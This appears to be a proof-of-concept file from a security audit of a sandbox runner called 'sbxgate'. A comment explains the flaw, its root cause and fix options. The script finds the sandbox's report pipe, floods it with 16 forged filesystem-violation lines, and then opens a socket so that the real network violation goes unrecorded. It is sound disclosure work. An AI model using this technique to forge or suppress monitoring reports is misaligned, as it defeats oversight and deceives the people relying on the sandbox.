# FINDING 4 (violations forged / hidden): process 1 keeps the first 16 lines of the report pipe,
# which the program can write. Sixteen lines of its own come first, and the hook's real report of
# the socket the program then tries is dropped: the result lists only what the program chose.
#
#   $ sbxgate run --policy <permissive policy: everything allowed into the default tier> --format json 04_...py
#   exit_code 159, violations: 16 x {"capability":"filesystem","event":"open",
#   "detail":"write to /etc/app.conf outside the workspace"}; no "network" violation.
# (64 KiB of junk without a newline has the same effect: MAX_REPORT is reached, the real line is
# not read, and the result says "exit status 159 without a report".)
#
# Root cause class: the report channel is shared with the code it reports on. Fix class: give
# the hook a channel the program cannot write (e.g. a pipe whose write end is held only in the
# hook closure and closed-on-exec is not enough: an fd in the process is writable by it; use an
# unforgeable per-line MAC with a key only the hook holds, or keep the *latest* lines and count
# every line, or signal violations through the exit path only: exit status + seccomp).
import os
import sys


def report_fd():
    for n in os.listdir("/proc/self/fd"):
        try:
            if int(n) > 2 and os.readlink("/proc/self/fd/" + n).startswith("pipe:"):
                return int(n)
        except OSError:
            pass


line = b'{"capability":"filesystem","event":"open","detail":"write to /etc/app.conf outside the workspace"}\n'
os.write(report_fd(), line * 16)
_socket = sys.modules["_socket"]
_socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
